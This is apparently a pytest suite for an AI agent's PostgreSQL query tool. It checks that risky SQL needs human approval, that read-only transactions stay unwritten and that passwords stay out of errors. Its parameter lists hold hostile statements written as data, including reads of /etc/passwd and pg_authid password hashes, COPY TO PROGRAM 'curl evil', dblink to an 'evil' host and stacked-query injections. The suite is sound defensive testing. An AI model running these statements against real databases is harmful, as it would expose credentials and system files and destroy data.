# ruff: noqa: S608  every text of SQL is put together from constants of this file
"""What only a PostgreSQL server can do to us, and what we keep it from."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import psycopg
import pytest

from agent.broker import Broker
from agent.domain import Principal, Tier
from agent.errors import PreviewMismatch, ToolError, ToolFailed, ToolTimedOut
from agent.facts.sql import Statement, read_sql
from agent.policy import load_policy
from agent.sandbox.none import NoSandbox
from agent.tools import postgres as sessions
from agent.tools import postgres_connection as lines
from agent.tools.base import Preview, ToolContext, ToolResult
from agent.tools.databases import named_databases
from agent.tools.sql import QuerySql
from tests.postgres import AGENT, OWNER, PASSWORD, PostgresServer

pytestmark = pytest.mark.needs("postgres")

TABLES = """
CREATE TYPE state AS ENUM ('open', 'late');
CREATE TABLE orders (
  id INTEGER PRIMARY KEY, state state, name VARCHAR(10), price NUMERIC(10, 2), due TIMESTAMPTZ, about JSONB,
  parts INTEGER[], twice NUMERIC GENERATED ALWAYS AS (price * 2) STORED
);
CREATE TABLE "Odd Names" ("Key" INTEGER PRIMARY KEY, "a""b" TEXT);
CREATE TABLE log (n INTEGER);
CREATE TABLE parent (id INTEGER PRIMARY KEY);
CREATE TABLE child (p INTEGER REFERENCES parent ON UPDATE CASCADE);
CREATE TABLE base (id INTEGER);
CREATE TABLE derived () INHERITS (base);
CREATE FUNCTION counted() RETURNS INTEGER LANGUAGE plpgsql AS 'BEGIN INSERT INTO log VALUES (1); RETURN 1; END';
CREATE TABLE defaulted (id INTEGER DEFAULT counted(), name TEXT);
CREATE SEQUENCE numbers;
INSERT INTO orders VALUES (1, 'open', 'one', 1.5, '2026-01-01', '{"a": 1}', '{1,2}'),
  (2, 'open', 'two', 2.5, 'infinity', NULL, NULL), (3, 'late', 'x', 'NaN', NULL, NULL, NULL);
INSERT INTO "Odd Names" VALUES (1, 'x');
GRANT ALL ON ALL TABLES IN SCHEMA public TO agent;
"""


class Crm:
    """A database and an agent's tool on it."""

    def __init__(self, server: PostgresServer, database: str, folder: Path, user: str = AGENT) -> None:
        self.server, self.database = server, database
        broker = Broker({"CRM": {"from": "env:PW", "databases": ["crm"]}}, {"PW": PASSWORD})
        self.databases = named_databases(
            {"crm": {"url": server.url(database, user), "password": "secret:CRM"}}, broker
        )  # fmt: skip
        self.context = ToolContext(
            run="r", workspace=folder, project=folder, sandbox=NoSandbox(), databases=self.databases, broker=broker
        )
        self.tool = QuerySql(self.databases)

    def owner(self, sql: str) -> list[Any]:
        return self.server.execute(self.database, sql)

    async def seen(self, sql: str) -> Preview:
        return await self.tool.preview(self.tool.parse({"database": "crm", "sql": sql}), self.context)

    async def run(self, sql: str, preview: Preview | None = None, **more: Any) -> ToolResult:
        arguments = self.tool.parse({"database": "crm", "sql": sql, **more})
        return await self.tool.run(arguments, self.context, preview or await self.seen(sql))

    async def tier(self, sql: str) -> Tier:
        arguments = self.tool.parse({"database": "crm", "sql": sql})
        facts = await self.tool.facts(arguments, self.context)
        who = Principal(team="T1", user="U1")
        return load_policy(None).rate("query_sql", arguments.model_dump(), facts, who, read_only=False).tier


@pytest.fixture(scope="session")
def template(postgres: PostgresServer) -> str:
    postgres.execute("postgres", "CREATE DATABASE crm")
    postgres.execute("crm", TABLES)
    return "crm"


@pytest.fixture
def crm(postgres: PostgresServer, template: str, tmp_path: Path) -> Crm:
    return Crm(postgres, postgres.copy(template), tmp_path)


def believed(monkeypatch: pytest.MonkeyPatch) -> None:
    """As if our parser took everything for a read."""
    facts, statement = read_sql("SELECT 1", "crm", "postgres")
    assert statement is not None
    monkeypatch.setattr("agent.tools.sql.read_sql", lambda *_: (facts, Statement("read", statement.tree)))


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/etc/cron.d/x')",
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a INTEGER)",
        "COPY orders TO PROGRAM 'curl evil'",
        "COPY (SELECT 1) TO '/tmp/x'",
        "SELECT set_config('transaction_read_only', 'off', false)",
        "SELECT nextval('numbers')",
        "SELECT pg_sleep(100)",
        "SELECT * FROM pg_sleep(100)",
        'SELECT "pg_sleep"(100)',
        "SELECT pg_catalog.pg_sleep(100)",
        "SELECT public.lower('a')",
        "SELECT pg_catalog.lower('a')",
        "SELECT 1 OPERATOR(public.+) 2",
        "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
        "SELECT pg_terminate_backend(1)",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_notify('a', 'b')",
        "SELECT repeat('x', 1000000000)",
        "SELECT lpad('x', 1000000000)",
        "SELECT generate_series(1, 1000000000)",
        "SELECT * FROM pg_authid",
        "SELECT rolpassword FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_stat_activity",
        "SELECT * FROM other.orders",
        "SELECT * FROM orders FOR UPDATE",
        "SELECT * INTO copy FROM orders",
        "DO 'BEGIN DELETE FROM orders; END'",
        "CALL something()",
        "SET ROLE owner",
        "LISTEN x",
        "LOCK orders",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "PREPARE x AS SELECT 1",
        "TABLE orders",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
        "MERGE INTO orders USING log ON true WHEN MATCHED THEN DELETE",
        "TRUNCATE orders",
        "CREATE EXTENSION dblink",
        "ALTER SYSTEM SET archive_command = 'x'",
        "SELECT 1; SELECT 2",
        "UPDATE orders SET price = 1",
        "SELECT E'\\'; DELETE FROM orders; --'; DELETE FROM orders",
    ],
)
async def test_what_reaches_beyond_the_tables_needs_a_person(crm: Crm, sql: str) -> None:
    assert await crm.tier(sql) is Tier.HIGH


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*), sum(price), max(due) FROM orders WHERE state = 'open' GROUP BY state HAVING count(*) > 1",
        "SELECT date_trunc('month', due), to_char(due, 'YYYY'), extract(year FROM due), age(due) FROM orders",
        "SELECT string_agg(name, ','), array_agg(id), about->>'a', about #>> '{a}' FROM orders GROUP BY about",
        "SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'public'",
        "SELECT name, rank() OVER (ORDER BY price) FROM orders WHERE name ILIKE 'o%' AND name ~ '^o'",
        "WITH late AS (SELECT * FROM orders WHERE due < now() - interval '1 day') SELECT * FROM late LIMIT 3",
        "SELECT left(name, 2), split_part(name, 'n', 1), greatest(1, 2), coalesce(due::date::text, '-') FROM orders",
        "SELECT jsonb_typeof(about), regexp_replace(name, 'o', '0') FROM public.orders ORDER BY 1 NULLS LAST",
        "EXPLAIN SELECT * FROM orders",
    ],
)
async def test_an_ordinary_question_is_answered_at_once(crm: Crm, sql: str) -> None:
    assert await crm.tier(sql) is Tier.LOW
    assert (await crm.run(sql)).ok


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM orders",
        "SELECT set_config('transaction_read_only', 'off', false), nextval('numbers')",
        "SELECT nextval('numbers')",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
        "SELECT 1) AS q; COMMIT; DELETE FROM orders; SELECT * FROM (SELECT 1",
        "SELECT 1; DELETE FROM orders",
        "COPY orders TO PROGRAM 'true'",
        "SELECT counted()",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "EXPLAIN SELECT 1; DELETE FROM orders",
        "COMMIT",
        "DO 'BEGIN COMMIT; DELETE FROM orders; END'",
        "SELECT * FROM orders FOR UPDATE",
    ],
)
async def test_a_transaction_that_reads_cannot_write_whatever_the_parser_thought_even_as_a_superuser(
    crm: Crm, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, sql: str
) -> None:
    mighty = Crm(crm.server, crm.database, tmp_path, user=OWNER)
    believed(monkeypatch)
    with pytest.raises(ToolError):
        await mighty.run(sql, Preview())
    left = "SELECT (SELECT count(*) FROM orders), (SELECT count(*) FROM log), (SELECT is_called FROM numbers)"
    assert crm.owner(left) == [(3, 0, False)]


async def test_what_a_read_only_transaction_lets_through_is_rolled_back_with_it(
    crm: Crm, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Before version 16 large objects can be made in one."""
    believed(monkeypatch)
    with contextlib.suppress(ToolError):
        await Crm(crm.server, crm.database, tmp_path, user=OWNER).run("SELECT lo_from_bytea(0, 'x')", Preview())
    assert crm.owner("SELECT count(*) FROM pg_largeobject_metadata") == [(0,)]


@pytest.mark.parametrize(
    ("sql", "why"),
    [
        ("INSERT INTO defaulted (name) VALUES ('x')", "counted"),
        ("UPDATE parent SET id = 2 WHERE id = 1", "child"),
        ("UPDATE base SET id = 2 WHERE id = 1", "ordinary"),
        ("UPDATE orders SET twice = 2 WHERE id = 1", "twice"),
        ("UPDATE orders SET parts[1] = 2 WHERE id = 1", ""),
        ("UPDATE orders SET state = 'nonsense' WHERE id = 1", "nonsense"),
        ("UPDATE orders SET price = DEFAULT WHERE id = 1", "DEFAULT"),
        ("INSERT INTO orders (id, id) VALUES (1, 2)", "told"),
        ("INSERT INTO numbers VALUES (1)", "ordinary"),
        ('UPDATE "ORDERS" SET price = 1 WHERE id = 1', "no table ORDERS"),
    ],
)
async def test_what_cannot_be_shown_beforehand_says_why_and_needs_a_person(crm: Crm, sql: str, why: str) -> None:
    assert await crm.tier(sql) is Tier.HIGH
    preview = await crm.seen(sql)
    assert preview.fingerprint == ""
    assert why in preview.text


@pytest.mark.parametrize(
    ("sql", "after"),
    [
        ("UPDATE orders SET due = '2026-02-03' WHERE id = 1", "2026-02-03 00:00:00+00"),
        ("UPDATE orders SET price = 1.239 WHERE id = 1", "1.24"),
        ("UPDATE orders SET price = price * 3 WHERE id = 1", "4.50"),
        ("UPDATE Orders SET State = 'late' WHERE ID = 1", "late"),
        ("UPDATE orders SET about = about || '{\"b\": [1, 2]}' WHERE id = 1", '{"a": 1, "b": [1, 2]}'),
        ("UPDATE orders SET parts = ARRAY[7, 8] WHERE id = 1", "{7,8}"),
        ("UPDATE orders SET name = E'it\\'s' WHERE id = 1", "it's"),
        ("UPDATE orders SET name = 'a;--' /* a /* nested */ comment */ WHERE id = 1 -- done", "a;--"),
        ('UPDATE "Odd Names" SET "a""b" = \'y\' WHERE "Key" = 1', "y"),
        ("UPDATE orders SET id = 10 WHERE id = 1", 10),
        ("UPDATE orders AS o SET name = upper(o.name) WHERE o.id = 1", "ONE"),
    ],
)
async def test_what_is_shown_is_what_the_column_will_hold_and_what_it_holds_afterwards(
    crm: Crm, sql: str, after: object
) -> None:
    preview = await crm.seen(sql)
    assert preview.count == 1, preview.text
    assert after in preview.after[0]
    assert await crm.tier(sql) is Tier.MEDIUM
    result = await crm.run(sql, preview)
    assert after in result.data["rows"][0]
    table = '"Odd Names"' if "Odd" in sql else "orders"
    held = [row[0] for row in crm.owner(f"SET TimeZone = 'UTC'; SELECT t::text FROM {table} AS t")]
    assert any(str(after).replace('"', '""') in row for row in held), held


async def test_an_insert_shows_what_its_columns_will_hold(crm: Crm) -> None:
    sql = "INSERT INTO orders (id, price, due) VALUES (7, 1.239, '2026-03-04'), (8, NULL, NULL)"
    preview = await crm.seen(sql)
    assert preview.after == ((7, "1.24", "2026-03-04 00:00:00+00"), (8, None, None))
    await crm.run(sql, preview)
    assert crm.owner("SELECT price::text FROM orders WHERE id = 7") == [("1.24",)]


async def test_values_that_are_odd_or_large_are_told_in_words(crm: Crm) -> None:
    crm.owner("UPDATE orders SET name = NULL, about = to_jsonb(repeat('x', 100000)) WHERE id = 2")
    result = await crm.run("SELECT price, due, name, 'a'::bytea, 9007199254740993, about FROM orders ORDER BY id")
    first, second, third = result.data["rows"]
    assert first[:5] == ["1.50", "2026-01-01 00:00:00+00", "one", "<1 bytes>", "9007199254740993"]
    assert second[1:3] == ["infinity", None]
    assert len(second[5]) < 4_096
    assert second[5].endswith("… (100002 characters)")
    assert third[0] == "NaN"


async def test_more_data_than_can_be_compared_cannot_be_shown(crm: Crm) -> None:
    crm.owner("UPDATE orders SET about = to_jsonb(repeat('x', 17000000)) WHERE id = 2")
    sql = "UPDATE orders SET price = 1 WHERE id < 3"
    assert "more data" in (await crm.seen(sql)).text
    assert await crm.tier(sql) is Tier.HIGH


async def test_names_mean_what_they_say_whatever_the_role_was_set_up_with(crm: Crm) -> None:
    crm.owner(
        "CREATE SCHEMA evil; CREATE TABLE evil.orders (id INTEGER); INSERT INTO evil.orders VALUES (666);"
        "GRANT ALL ON SCHEMA evil TO agent; GRANT ALL ON evil.orders TO agent;"
        f"ALTER ROLE agent IN DATABASE {crm.database} SET search_path = evil;"
        f"ALTER ROLE agent IN DATABASE {crm.database} SET standard_conforming_strings = off;"
        f"ALTER ROLE agent IN DATABASE {crm.database} SET statement_timeout = 0"
    )
    result = await crm.run("SELECT id, '\\' FROM orders ORDER BY id", limit=1)
    assert result.data["rows"] == [[1, "\\"]]


async def test_a_function_that_takes_a_known_name_cannot_do_anything_unseen(crm: Crm) -> None:
    crm.owner(
        "CREATE FUNCTION lower(varchar) RETURNS text LANGUAGE plpgsql AS"
        " 'BEGIN INSERT INTO log VALUES (1); RETURN $1; END'"
    )
    with pytest.raises(ToolFailed, match="read-only"):
        await crm.run("SELECT lower(name) FROM orders")
    assert (await crm.seen("UPDATE orders SET price = 1 WHERE lower(name) = 'one'")).fingerprint == ""
    assert crm.owner("SELECT count(*) FROM log") == [(0,)]


async def test_a_change_of_anything_that_was_not_shown_is_rolled_back(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As if a table's trigger had been made after it was looked for."""
    crm.owner(
        "CREATE FUNCTION note() RETURNS trigger LANGUAGE plpgsql AS"
        " 'BEGIN INSERT INTO log VALUES (1); RETURN new; END';"
        "CREATE TRIGGER note AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION note()"
    )
    monkeypatch.setattr("agent.tools.postgres_survey._ELSE", "SELECT 'x' FROM pg_class WHERE oid = 0 AND oid = %(of)s")
    with pytest.raises(PreviewMismatch):
        await crm.run("UPDATE orders SET price = 1 WHERE id = 1")
    assert crm.owner("SELECT price::text FROM orders WHERE id = 1") == [("1.50",)]


async def test_a_value_that_comes_out_otherwise_than_it_was_shown_is_rolled_back(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    crm.owner(
        "CREATE FUNCTION more() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN new.price = 99; RETURN new; END';"
        "CREATE TRIGGER more BEFORE UPDATE OR INSERT ON orders FOR EACH ROW EXECUTE FUNCTION more()"
    )
    monkeypatch.setattr("agent.tools.postgres_survey._ELSE", "SELECT 'x' FROM pg_class WHERE oid = 0 AND oid = %(of)s")
    for sql in ("UPDATE orders SET price = 1 WHERE id = 1", "INSERT INTO orders (id, price) VALUES (9, 1)"):
        with pytest.raises(PreviewMismatch, match="not what was shown"):
            await crm.run(sql)
    assert crm.owner("SELECT max(id), min(price)::text FROM orders") == [(3, "1.50")]


async def test_rows_that_somebody_changes_between_the_last_look_and_the_change_are_left_alone(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    sql = "UPDATE orders SET price = 1 WHERE id = 1"
    preview = await crm.seen(sql)
    real = sessions.survey

    def late(*given: Any) -> Any:
        found = real(*given)
        crm.owner("UPDATE orders SET name = 'meanwhile' WHERE id = 1")
        return found

    monkeypatch.setattr(sessions, "survey", late)
    with pytest.raises(PreviewMismatch):
        await crm.run(sql, preview)
    assert crm.owner("SELECT name, price::text FROM orders WHERE id = 1") == [("meanwhile", "1.50")]


async def test_rows_that_somebody_holds_are_waited_for_a_moment_only(crm: Crm, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lines, "_SETTINGS", (*lines._SETTINGS, "lock_timeout = 100"))
    sql = "UPDATE orders SET price = 1 WHERE id = 1"
    preview = await crm.seen(sql)
    place = f"host=127.0.0.1 port={crm.server.port} user={OWNER} password={PASSWORD} dbname={crm.database}"
    with closing(psycopg.connect(place)) as other:
        other.execute("SELECT * FROM orders WHERE id = 1 FOR UPDATE")
        with pytest.raises(ToolFailed, match="Somebody else"):
            await crm.run(sql, preview)
        other.rollback()


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT (i + 1) % 1000 FROM n) SELECT count(*) FROM n"


async def _until(look: Callable[[], bool]) -> None:
    async with asyncio.timeout(20):
        while not look():  # noqa: ASYNC110 - nobody tells what a server is doing
            await asyncio.sleep(0.02)


def _active(crm: Crm) -> list[int]:
    found = crm.owner(f"SELECT pid FROM pg_stat_activity WHERE state = 'active' AND usename = '{AGENT}'")
    return [int(row[0]) for row in found]


async def test_a_query_of_a_run_that_is_stopped_ends_on_the_server_too(crm: Crm) -> None:
    task = asyncio.create_task(crm.run(ENDLESS))
    await _until(lambda: bool(_active(crm)))
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await _until(lambda: not _active(crm))


async def test_a_server_that_hears_nothing_any_more_holds_nobody_up(crm: Crm, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lines, "_GRACE_S", 0.2)
    monkeypatch.setattr(QuerySql, "timeout_s", 3.0)
    began = time.perf_counter()
    task = asyncio.create_task(crm.run(ENDLESS))
    await _until(lambda: bool(_active(crm)))
    (stuck,) = _active(crm)
    os.kill(stuck, signal.SIGSTOP)
    try:
        with pytest.raises(ToolTimedOut):
            await task
        assert time.perf_counter() - began < 10
    finally:
        os.kill(stuck, signal.SIGCONT)
        crm.owner(f"SELECT pg_terminate_backend({stuck})")


@pytest.fixture
def silent() -> Iterator[int]:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        yield listening.getsockname()[1]


async def test_a_server_that_is_gone_or_refuses_is_named_without_the_password(
    crm: Crm, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, silent: int
) -> None:
    """The driver waits for two seconds at least; here it is asked what it was told, and waits for less."""
    told: list[str] = []

    def soon(place: dict[str, str]) -> float:
        told.append(place["connect_timeout"])
        return 0.2

    monkeypatch.setattr("psycopg.connection.timeout_from_conninfo", soon)
    broker = Broker({"CRM": {"from": "env:PW", "databases": ["crm"]}}, {"PW": "wrong-horse-battery"})
    urls = [crm.server.url(crm.database), "postgresql://a@127.0.0.1:1/x", f"postgresql://a@127.0.0.1:{silent}/x"]
    for url in urls:
        databases = named_databases({"crm": {"url": url, "password": "secret:CRM"}}, broker)
        context = ToolContext(
            run="r", workspace=tmp_path, project=tmp_path, sandbox=NoSandbox(), databases=databases, broker=broker
        )
        with pytest.raises(ToolFailed, match="crm cannot be reached") as caught:
            await QuerySql(databases).run(QuerySql().parse({"database": "crm", "sql": "SELECT 1"}), context, Preview())
        seen: BaseException | None = caught.value
        while seen is not None:
            assert "battery" not in repr(seen) + str(seen)
            seen = seen.__cause__ or seen.__context__
    assert set(told) == {str(lines._CONNECT_S)}


async def test_a_line_that_breaks_at_the_commit_says_that_nobody_knows(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = sessions.PostgresSession.commit

    def broken(session: sessions.PostgresSession) -> None:
        pid = session._connection.info.backend_pid
        crm.owner(f"SELECT pg_terminate_backend({pid}, 5000)")
        real(session)

    monkeypatch.setattr(sessions.PostgresSession, "commit", broken)
    with pytest.raises(ToolFailed, match="may have been made or not"):
        await crm.run("UPDATE orders SET price = 1 WHERE id = 1")


async def test_the_model_is_told_which_database_speaks_what(crm: Crm, tmp_path: Path) -> None:
    files = named_databases({"shop": tmp_path / "shop.db"}, Broker())
    assert QuerySql({**crm.databases, **files}).description.endswith("Databases: crm (PostgreSQL), shop (SQLite).")
    assert QuerySql(files).schema_hash == QuerySql().schema_hash
